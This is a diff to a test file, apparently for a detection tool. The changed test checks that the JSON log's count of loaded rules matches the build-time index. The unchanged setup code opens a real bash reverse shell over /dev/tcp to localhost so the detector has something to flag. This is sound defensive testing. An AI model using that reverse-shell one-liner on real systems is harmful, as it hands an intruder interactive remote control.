@@ -65,9 +65,17 @@ beforeAll(async () => {
   reverseShellPid = pidOf(await start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]));
   await connected;
 
-  const detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 120_000});
+  const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
   expect(detect.code, detect.stderr).toBe(0);
-  alerts = (JSON.parse(detect.stdout) as {alerts: Alert[]}).alerts;
+  const output = JSON.parse(detect.stdout) as {alerts: Alert[]; summary: {rules_loaded: number}};
+  alerts = output.alerts;
+  // The installed pack comes from the build-time index (dist/builtin-rules.json), not from parsing each file.
+  const loaded = detect.stderr
+    .split('\n')
+    .filter((line) => line.startsWith('{'))
+    .map((line) => JSON.parse(line) as {message: string; rules?: number; from_build_index?: number})
+    .find((line) => line.message === 'rules loaded');
+  expect(loaded).toMatchObject({rules: output.summary.rules_loaded, from_build_index: output.summary.rules_loaded});
 }, 240_000);
 
 afterAll(() => {
